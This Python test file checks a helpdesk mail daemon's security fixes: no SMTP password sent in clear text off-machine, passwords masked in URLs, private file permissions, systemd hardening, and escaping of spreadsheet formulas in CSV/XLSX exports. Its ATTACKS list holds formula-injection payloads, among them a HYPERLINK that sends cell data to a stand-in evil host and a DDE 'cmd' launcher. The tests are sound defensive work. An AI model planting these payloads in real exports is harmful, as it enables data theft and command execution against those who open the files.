"""Secrets, files and exports (issue 10, items 12-16), against real servers and the real CLI.

- SMTP AUTH never goes out in clear text to a server off this machine (a real aiosmtpd sink
  bound to a non-loopback address of this machine); to loopback it still does.
- Passwords inside URLs are masked wherever settings are shown: check-config, the doctor,
  configuration errors.
- What maild creates is its owner's only (0600 files, 0700 folders); secrets come from
  systemd credentials under the service and from the files outside it.
- Text from mail never becomes a formula in the register (CSV, XLSX), the monthly report's
  CSV or ``tickets list --csv``.
- The systemd unit carries the hardening the issue asks for, each line with its reason.
"""

from __future__ import annotations

import asyncio
import csv
import io
import ipaddress
import json
import os
import ssl
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from openpyxl import load_workbook

from harness import HELPDESK, report, run_cli, start, tickets, write_config
from maild.app.doctor import format_checks, run_checks
from maild.app.factory import SMTP_PORTS, imap_mailbox, smtp_transport
from maild.base.clock import FrozenClock
from maild.base.config import endpoint, load_settings, mask_url, masked
from maild.base.errors import ConfigError
from maild.base.settings import Secret
from maild.documents.cells import csv_cell, csv_text
from maild.transport.maildir import deliver
from maild.transport.smtp import ClearTextRefused, SmtpTransport, check_auth_secured, is_loopback
from servers import SmtpSink, _SinkHandler

ROOT = Path(__file__).resolve().parent.parent
USER, PASSWORD = "helpdesk", "kata-sandi-smtp-RAHASIA"


# -- 12: no SMTP password in clear text off this machine -----------------------------------------
def non_loopback_address() -> str | None:
    """An IPv4 address of this machine that is not loopback (``hostname -I``), or None."""
    try:
        words = subprocess.run(["hostname", "-I"], capture_output=True, text=True, timeout=10).stdout.split()
    except (OSError, subprocess.SubprocessError):
        return None
    for word in words:
        ip = ipaddress.ip_address(word)
        if ip.version == 4 and not ip.is_loopback and not ip.is_link_local:
            return word
    return None


class RecordingSink(SmtpSink):
    """The test SMTP server (aiosmtpd, AUTH without TLS allowed) on ``host``; counts AUTH tries.

    With ``tls`` it offers STARTTLS (and requires it before AUTH).
    """

    def __init__(self, host: str, tls: ssl.SSLContext | None = None) -> None:
        super().__init__(auth=(USER, PASSWORD))
        self.host = host
        self.tls = tls
        self.auth_tries = 0

    def _authenticate(self, *args: Any) -> Any:
        self.auth_tries += 1
        return super()._authenticate(*args)

    def start(self) -> None:
        if self.tls is None:
            return super().start()
        controller = Controller(_SinkHandler(self), hostname=self.host, port=self.port, ready_timeout=10.0,
                                server_hostname="smtp-sink.test", authenticator=self._authenticate,
                                tls_context=self.tls, require_starttls=True)
        controller.start()
        self._controller = controller
        return None


def certificate(directory: Path, address: str) -> tuple[Path, ssl.SSLContext]:
    """A self-signed certificate for ``address`` (openssl CLI): its file, and a server context."""
    cert, key = directory / "cert.pem", directory / "key.pem"
    subprocess.run(["openssl", "req", "-x509", "-nodes", "-days", "2", "-newkey", "ec", "-pkeyopt",
                    "ec_paramgen_curve:prime256v1", "-keyout", str(key), "-out", str(cert), "-subj", f"/CN={address}",
                    "-addext", f"subjectAltName=IP:{address}"], capture_output=True, check=True, timeout=60)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(cert, key)
    return cert, context


@pytest.fixture
def remote() -> Iterator[tuple[RecordingSink, Any]]:
    """A sink that is "not on this machine" as maild sees it, and the loopback test to use.

    With a non-loopback address here the sink listens on it and maild's own loopback test
    decides; without one it listens on 127.0.0.1 and the transport is told that no host is
    loopback (its seam for this).
    """
    address = non_loopback_address()
    sink = RecordingSink(address or "127.0.0.1")
    sink.start()
    yield sink, (is_loopback if address else (lambda _host: False))
    sink.stop()


@pytest.fixture
def local_sink() -> Iterator[RecordingSink]:
    sink = RecordingSink("127.0.0.1")
    sink.start()
    yield sink
    sink.stop()


def transport(sink: SmtpSink, loopback: Any = is_loopback, username: str = USER,
              scheme: str = "smtp") -> SmtpTransport:
    return SmtpTransport(endpoint(f"{scheme}://{sink.host}:{sink.port}", SMTP_PORTS), username, Secret(PASSWORD),
                         timeout=10, loopback=loopback)


def send(t: SmtpTransport) -> str:
    async def go() -> str:
        try:
            return await t.send(HELPDESK, "budi@cv-maju.co.id", report().raw)
        finally:
            await t.close()
    return asyncio.run(go())


@pytest.mark.parametrize("host", ["127.0.0.1", "127.8.9.10", "::1", "localhost", "LOCALHOST"])
def test_loopback_hosts_may_get_the_password_without_tls(host: str) -> None:
    assert is_loopback(host)
    check_auth_secured(host, tls=False)  # no exception


@pytest.mark.parametrize("host", ["192.0.2.2", "10.0.0.25", "2001:db8::25", "mail.lpse.example", "localhost.evil.example",
                                  "127.0.0.1.evil.example", "0.0.0.0", "::ffff:203.0.113.5"])
def test_other_hosts_get_the_password_only_over_tls(host: str) -> None:
    assert not is_loopback(host)
    with pytest.raises(ClearTextRefused) as refused:
        check_auth_secured(host, tls=False)
    message = str(refused.value)
    assert message.startswith("smtp.url: ") and "clear text" in message and "\n" not in message
    check_auth_secured(host, tls=True)  # over TLS: allowed


def test_smtp_auth_is_refused_in_clear_text_to_a_server_off_this_machine(remote: tuple[RecordingSink, Any]) -> None:
    sink, loopback = remote
    with pytest.raises(ClearTextRefused) as refused:
        send(transport(sink, loopback))
    assert f"smtp.url: {sink.host} offers no STARTTLS" in str(refused.value)
    assert sink.auth_tries == 0 and sink.messages == []  # the password never went on the wire

    # The doctor's probe opens the session the same way: refused, and it says what to do.
    with pytest.raises(ClearTextRefused):
        asyncio.run(transport(sink, loopback).probe(HELPDESK))
    assert sink.auth_tries == 0


def test_smtp_auth_after_starttls_to_a_server_off_this_machine_still_works(tmp_path: Path) -> None:
    address = non_loopback_address() or "127.0.0.1"
    cert, context = certificate(tmp_path, address)
    with RecordingSink(address, tls=context) as sink:
        t = SmtpTransport(endpoint(f"smtp://{address}:{sink.port}", SMTP_PORTS), USER, Secret(PASSWORD),
                          ca_file=str(cert), timeout=10, loopback=lambda _host: False)
        assert send(t).startswith("OK")
        assert sink.auth_tries == 1 and len(sink.wait_for(1)) == 1


def test_without_a_login_mail_still_goes_to_a_server_without_tls(remote: tuple[RecordingSink, Any]) -> None:
    sink, loopback = remote
    sink.auth = None  # an MTA that relays for us without AUTH: nothing secret to protect
    sink.restart()
    assert send(transport(sink, loopback, username="")).startswith("OK")
    assert len(sink.wait_for(1)) == 1


def test_smtp_auth_in_clear_text_to_loopback_still_works(local_sink: RecordingSink) -> None:
    assert send(transport(local_sink)).startswith("OK")
    assert local_sink.auth_tries == 1 and len(local_sink.wait_for(1)) == 1


def test_the_daemon_stops_with_a_config_error_rather_than_send_the_password(
        tmp_path: Path, db_url: str) -> None:
    """End to end: ``maild run --once`` takes the report, then will not log in to send the ack."""
    address = non_loopback_address()
    assert address, "this machine has no non-loopback address (hostname -I); the seam tests cover the rest"
    sink = RecordingSink(address)
    with sink:
        config = write_config(tmp_path, {
            "database": {"url": db_url}, "mailbox": {"url": f"maildir:{tmp_path}/Maildir"},
            "smtp": {"url": f"smtp://{address}:{sink.port}", "username": USER, "password": PASSWORD}})
        run_cli(config, "db", "upgrade")
        deliver(tmp_path / "Maildir", report().raw)
        proc = run_cli(config, "run", "--once", ok=False)
        assert proc.returncode == 78, proc.stderr
        assert f"config error: smtp.url: {address} offers no STARTTLS" in proc.stderr
        assert sink.auth_tries == 0 and sink.messages == []
        queued = json.loads(run_cli(config, "outbox", "list", "--json").stdout)
        assert [m["state"] for m in queued] == ["queued"]  # the acknowledgement waits, it is not lost

        checks = format_checks(run_checks(config, FrozenClock(), timeout=5))
        assert "FAIL smtp: smtp.url:" in checks and "-> use smtp+starttls:// or smtps:// in smtp.url" in checks
        assert PASSWORD not in checks

    # The legitimate twin: the same mail server on loopback gets the login and the mail.
    with RecordingSink("127.0.0.1") as local:
        config = write_config(tmp_path, {
            "database": {"url": db_url}, "mailbox": {"url": f"maildir:{tmp_path}/Maildir"},
            "smtp": {"url": f"smtp://127.0.0.1:{local.port}", "username": USER, "password": PASSWORD}})
        run_cli(config, "run", "--once")
        assert local.auth_tries == 1 and len(local.wait_for(1)) == 1


# -- 13: passwords inside URLs are masked -------------------------------------------------------
URLS = {
    # setting: (url with a password, the password, what is shown)
    "database": ("postgresql+psycopg://maild:Db-Pw-1@127.0.0.1:1/maild", "Db-Pw-1",
                 "postgresql+psycopg://maild:***@127.0.0.1:1/maild"),
    "mailbox": ("imaps://helpdesk:Imap%40Pw-2@127.0.0.1:1/INBOX", "Imap%40Pw-2", "imaps://helpdesk:***@127.0.0.1:1/INBOX"),
    "smtp": ("smtps://helpdesk:Smtp-Pw-3@127.0.0.1:1", "Smtp-Pw-3", "smtps://helpdesk:***@127.0.0.1:1"),
}


def url_config(tmp_path: Path, **override: str) -> Path:
    urls = {name: override.get(name, url) for name, (url, _pw, _shown) in URLS.items()}
    return write_config(tmp_path, {name: {"url": url} for name, url in urls.items()})


@pytest.mark.parametrize(("url", "shown"), [
    ("imaps://user:pass@host/INBOX", "imaps://user:***@host/INBOX"),
    ("imap://user:p@ss@mail.example:143/INBOX", "imap://user:***@mail.example:143/INBOX"),  # unencoded @
    ("smtp+starttls://u:pa/ss?x#y@mail.example:587", "smtp+starttls://u:***@mail.example:587"),  # unencoded / ? #
    ("postgresql+psycopg://maild:s3cr%2Ft@db:5432/maild", "postgresql+psycopg://maild:***@db:5432/maild"),
    ("postgresql://db.example/maild?sslmode=require&password=Q-Pw", "postgresql://db.example/maild?sslmode=require&password=***"),
    ("postgresql://maild@/maild?host=/run/postgresql&PASSWORD=Q-Pw", "postgresql://maild@/maild?host=/run/postgresql&PASSWORD=***"),
])
def test_mask_url_hides_every_kind_of_password(url: str, shown: str) -> None:
    assert mask_url(url) == shown


@pytest.mark.parametrize("url", ["imaps://helpdesk@mail.example:993/INBOX", "smtp://mail.example:25", "maildir:/var/lib/maild/Maildir",
                                 "sqlite:////var/lib/maild/maild.db", "postgresql+psycopg://maild@db/maild?sslmode=require"])
def test_urls_without_a_password_are_shown_as_they_are(url: str) -> None:
    assert mask_url(url) == url


def test_check_config_prints_no_password_of_any_url(tmp_path: Path) -> None:
    proc = run_cli(url_config(tmp_path), "check-config")
    shown = json.loads(proc.stdout)
    for name, (_url, password, masked_url) in URLS.items():
        assert shown[name]["url"] == masked_url
        assert password not in proc.stdout + proc.stderr
    assert shown["helpdesk"]["secret"] == "****"


def test_the_doctor_prints_no_password_of_any_url(tmp_path: Path) -> None:
    config = url_config(tmp_path)
    text = format_checks(run_checks(config, FrozenClock(), timeout=2))
    assert "postgresql+psycopg://maild:***@127.0.0.1:1/maild" in text
    settings = load_settings(config)
    logged = [imap_mailbox(settings).description, smtp_transport(settings).description]  # the daemon logs these
    for _url, password, _shown in URLS.values():
        assert password not in text and all(password not in line for line in logged)
    assert json.dumps(masked(settings)).count("***@") == 3


@pytest.mark.parametrize(("setting", "url", "password"), [
    ("mailbox", "pop3://helpdesk:Pop-Pw-4@mail.example/INBOX", "Pop-Pw-4"),  # not IMAP
    ("mailbox", "imaps://helpdesk:Slash/Pw-5@mail.example/INBOX", "Slash/Pw-5"),  # the / ends the host part
    ("mailbox", "imaps://helpdesk:Port-Pw-6@mail.example:99x/INBOX", "Port-Pw-6"),
    ("smtp", "smtp://helpdesk:Smtp/Pw-7@mail.example:587", "Smtp/Pw-7"),
    ("smtp", "lmtp://helpdesk:Lmtp-Pw-8@mail.example", "Lmtp-Pw-8"),
    ("database", "nosuchdb://maild:Db-Pw-9@db/maild", "Db-Pw-9"),
])
def test_configuration_errors_about_a_url_do_not_quote_its_password(tmp_path: Path, setting: str, url: str,
                                                                   password: str) -> None:
    config = url_config(tmp_path, **{setting: url})
    proc = run_cli(config, "db", "upgrade", ok=False)
    assert proc.returncode == 78 and f"{setting}.url" in proc.stderr, proc.stderr
    assert password not in proc.stderr and password.split("/")[0] not in proc.stderr
    text = format_checks(run_checks(config, FrozenClock(), timeout=2))
    assert password.split("/")[0] not in text


# -- 14: private files; secrets from systemd credentials -----------------------------------------
def modes(root: Path) -> dict[str, int]:
    return {str(p.relative_to(root)): stat.S_IMODE(p.stat().st_mode) for p in [root, *root.rglob("*")]}


def init(config: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """``maild init`` from a shell whose umask is the usual 022."""
    return subprocess.run([sys.executable, "-m", "maild", "--config", str(config), "init", *args],
                          capture_output=True, text=True, timeout=120, preexec_fn=lambda: os.umask(0o022))


def test_init_creates_everything_for_its_owner_only(tmp_path: Path) -> None:
    config = tmp_path / "etc" / "maild.toml"
    proc = init(config, "--state-dir", str(tmp_path / "state"))
    assert proc.returncode == 0, proc.stderr
    created = modes(tmp_path / "etc") | modes(tmp_path / "state")
    assert {"maild.toml", "maild.secret", "maild.db", "Maildir/new", "sent/new"} <= set(created)
    for name, mode in created.items():
        path = (tmp_path / "etc" / name) if (tmp_path / "etc" / name).exists() else tmp_path / "state" / name
        assert mode == (0o700 if path.is_dir() else 0o600), (name, oct(mode))
    settings = load_settings(config)  # the state lives under --state-dir, the config points there
    assert settings.database.url == f"sqlite:///{tmp_path}/state/maild.db"
    assert settings.mailbox.url == f"maildir:{tmp_path}/state/Maildir"
    assert settings.smtp.url == f"maildir:{tmp_path}/state/sent"


def test_init_force_makes_an_existing_readable_config_private(tmp_path: Path) -> None:
    config = tmp_path / "maild.toml"
    config.write_text("# an old config\n")
    config.chmod(0o644)
    assert init(config).returncode == 1  # without --force it refuses, as before
    assert init(config, "--force").returncode == 0
    assert stat.S_IMODE(config.stat().st_mode) == 0o600 and "[helpdesk]" in config.read_text()
    assert stat.S_IMODE((tmp_path / "maild.db").stat().st_mode) == 0o600


def test_what_the_daemon_creates_later_is_private_too(tmp_path: Path) -> None:
    config = tmp_path / "maild.toml"
    assert init(config).returncode == 0
    deliver(tmp_path / "Maildir", report().raw)
    proc = subprocess.run([sys.executable, "-m", "maild", "--config", str(config), "run", "--once"],
                          capture_output=True, text=True, timeout=120, preexec_fn=lambda: os.umask(0o022))
    assert proc.returncode == 0, proc.stderr
    sent = list((tmp_path / "sent" / "new").iterdir())
    processed = tmp_path / "Maildir" / ".Processed"
    assert len(sent) == 1 and stat.S_IMODE(sent[0].stat().st_mode) == 0o600  # the acknowledgement
    assert stat.S_IMODE(processed.stat().st_mode) == 0o700
    wal = tmp_path / "maild.db-wal"
    assert not wal.exists() or stat.S_IMODE(wal.stat().st_mode) == 0o600


def test_secrets_come_from_systemd_credentials_under_the_service(tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "maild.secret").write_text("from-the-file\n")
    (tmp_path / "smtp.password").write_text("smtp-from-the-file\n")
    config = write_config(tmp_path, {
        "helpdesk": {"secret": "", "secret_file": "maild.secret", "secret_credential": "secret"},
        "smtp": {"password_file": "smtp.password", "password_credential": "smtp"}})
    credentials = tmp_path / "credentials"
    credentials.mkdir()
    (credentials / "secret").write_text("from-the-credential\n")
    (credentials / "smtp").write_text("smtp-from-the-credential\n")

    monkeypatch.delenv("CREDENTIALS_DIRECTORY", raising=False)  # an admin's CLI: the files
    settings = load_settings(config)
    assert settings.hmac_key == b"from-the-file" and settings.smtp_password.value == "smtp-from-the-file"

    monkeypatch.setenv("CREDENTIALS_DIRECTORY", str(credentials))  # the service: the credentials
    settings = load_settings(config)
    assert settings.hmac_key == b"from-the-credential" and settings.smtp_password.value == "smtp-from-the-credential"

    (credentials / "smtp").unlink()  # a credential the unit does not load: the file, as outside
    assert load_settings(config).smtp_password.value == "smtp-from-the-file"


def test_a_secret_file_the_service_cannot_read_is_one_clear_line(tmp_path: Path) -> None:
    config = write_config(tmp_path, {"helpdesk": {"secret": "", "secret_file": "missing.secret",
                                                  "secret_credential": "secret"}})
    with pytest.raises(ConfigError, match=r"helpdesk.secret_file: cannot read .*missing.secret"):
        load_settings(config)


def unit() -> str:
    return (ROOT / "systemd" / "maild.service").read_text()


def test_the_unit_hands_over_the_credentials_the_template_names() -> None:
    template = (ROOT / "templates" / "config" / "maild.toml").read_text()
    text = unit()
    assert 'secret_credential = "secret"' in template and "\nLoadCredential=secret:/etc/maild/maild.secret\n" in text
    for name in ("imap", "smtp"):
        assert f'password_credential = "{name}"' in template and f"LoadCredential={name}:/etc/maild/" in text
    # The state lives where ProtectSystem=strict lets the service write, not under /etc.
    assert "StateDirectory=maild" in text and "init --state-dir /var/lib/maild" in text
    assert "ProtectSystem=strict" in text and "ReadWritePaths=/etc" not in text


# -- 16: the unit's hardening ---------------------------------------------------------------------
@pytest.mark.parametrize("directive", [
    "MemoryMax=", "TasksMax=", "ProtectProc=invisible", "ProcSubset=pid", "SystemCallFilter=@system-service",
    "SystemCallFilter=~@privileged @resources", "MemoryDenyWriteExecute=yes", "PrivateMounts=yes",
])
def test_the_unit_has_the_hardening_each_with_its_reason(directive: str) -> None:
    lines = unit().splitlines()
    at = next(i for i, line in enumerate(lines) if line.startswith(directive))
    assert lines[at - 1].startswith("#"), f"{directive} has no comment saying why"


# -- 15: no formula from mail in the exports ------------------------------------------------------
ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=1+1 (subjek)",
]
LEGIT_SUBJECT = "Tidak bisa login ke aplikasi SPSE"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def exported(tmp_path: Path, db_url: str) -> tuple[Path, list[str]]:
    """Tickets whose subjects, names and texts are formulas (and one ordinary one), made by the
    daemon from real mail; the config to export them with and the ticket numbers."""
    config = write_config(tmp_path, {"database": {"url": db_url}, "mailbox": {"url": f"maildir:{tmp_path}/Maildir"},
                                     "smtp": {"url": f"maildir:{tmp_path}/sent"}})
    daemon, _settings = start(config, FrozenClock())
    try:
        for i, attack in enumerate(ATTACKS):
            # A quoted display name, as a mail program writes one with these characters.
            name = '"' + ATTACKS[(i + 1) % len(ATTACKS)].replace("\\", "\\\\").replace('"', '\\"') + '"'
            deliver(tmp_path / "Maildir", report(sender=f"pelapor{i}@cv-maju.co.id", subject=attack, name=name,
                                                 body=f"{ATTACKS[(i + 2) % len(ATTACKS)]}\n\nMohon dibantu.").raw)
        deliver(tmp_path / "Maildir", report(subject=LEGIT_SUBJECT).raw)
        assert daemon.run_once()
        numbers = [t.number for t in tickets(daemon)]
        assert len(numbers) == len(ATTACKS) + 1
    finally:
        daemon.close()
    return config, numbers


def assert_no_formula_text(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(TRIGGERS) or cell == "-", repr(cell)


def test_the_register_csv_escapes_every_formula(exported: tuple[Path, list[str]]) -> None:
    config, numbers = exported
    text = run_cli(config, "export", "register", "--from", "2026-11-01", "--to", "2026-11-30").stdout
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == len(numbers) + 1
    cells = [c for row in rows for c in row]
    assert_no_formula_text(cells)
    for attack in ATTACKS:  # subject, name and text: each attack appears escaped, whole
        assert cells.count("'" + attack) >= 2, (attack, [r[5] for r in rows])
    assert any(c.startswith("'" + ATTACKS[2]) for c in cells)  # the text (Uraian) too
    assert LEGIT_SUBJECT in cells  # the ordinary subject is unchanged
    assert "\"'=cmd|' /C calc'!A0\"" in text  # escaped and quoted (OWASP)


def test_the_register_xlsx_has_no_formula_cell(exported: tuple[Path, list[str]], tmp_path: Path) -> None:
    config, numbers = exported
    out = tmp_path / "register.xlsx"
    run_cli(config, "export", "register", "--from", "2026-11-01", "--to", "2026-11-30", "--format", "xlsx",
            "--out", str(out))
    sheet = load_workbook(out).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert sheet.max_row == len(numbers) + 1
    assert [c for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    for attack in ATTACKS:  # kept as the reporter wrote it, as text
        assert attack in values, attack
    assert LEGIT_SUBJECT in values
    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # reporters' personal data


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_the_register_xlsx_survives_characters_xml_cannot_hold(tmp_path: Path, db_url: str) -> None:
    config = write_config(tmp_path, {"database": {"url": db_url}, "mailbox": {"url": f"maildir:{tmp_path}/Maildir"},
                                     "smtp": {"url": f"maildir:{tmp_path}/sent"}})
    daemon, _ = start(config, FrozenClock())
    try:
        deliver(tmp_path / "Maildir", report(body="=1+1\x01 gagal\x0b unggah\n").raw)
        assert daemon.run_once()
    finally:
        daemon.close()
    out = tmp_path / "r.xlsx"
    run_cli(config, "export", "register", "--from", "2026-11-01", "--to", "2026-11-30", "--format", "xlsx",
            "--out", str(out))
    assert [c for row in load_workbook(out).active.iter_rows() for c in row if c.data_type == "f"] == []


def test_the_monthly_report_csv_escapes_subjects_and_keeps_numbers(exported: tuple[Path, list[str]],
                                                                   tmp_path: Path) -> None:
    config, numbers = exported
    run_cli(config, "report", "--month", "2026-11", "--out", str(tmp_path / "out"))
    raw = (tmp_path / "out" / "laporan-helpdesk-2026-11.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    assert_no_formula_text([c for row in rows for c in row])
    oldest = {row[3] for row in rows if row[1] == "terbuka_tertua"}
    assert {"'" + a for a in ATTACKS} | {LEGIT_SUBJECT} == oldest
    # The legitimate twin: figures are numbers, written bare (unquoted) and unescaped.
    intake = next(line for line in raw.splitlines() if '"masuk","Laporan masuk","jumlah"' in line)
    assert intake.endswith(f",{len(numbers)}")


def test_tickets_list_csv_escapes_subjects(exported: tuple[Path, list[str]]) -> None:
    config, numbers = exported
    rows = list(csv.reader(io.StringIO(run_cli(config, "tickets", "list", "--csv").stdout)))
    assert rows[0][:2] == ["number", "state"] and len(rows) == len(numbers) + 1
    assert_no_formula_text([c for row in rows[1:] for c in row])
    subjects = {row[rows[0].index("subject")] for row in rows[1:]}
    assert {"'" + a for a in ATTACKS} | {LEGIT_SUBJECT} == subjects


def test_csv_cells_keep_numbers_and_ordinary_text() -> None:
    assert csv_cell(-2) == -2 and csv_cell(-2.5) == -2.5 and csv_cell(0) == 0  # real number columns
    assert csv_text("Tidak bisa login") == "Tidak bisa login" and csv_text("-") == "-"
    assert csv_text("a=b") == "a=b" and csv_text("") == ""
    for attack in [*ATTACKS, "\t=1+1", "\r=1+1", "-", "--", "=", "@"]:
        escaped = csv_text(attack)
        assert escaped == attack if attack == "-" else escaped == "'" + attack

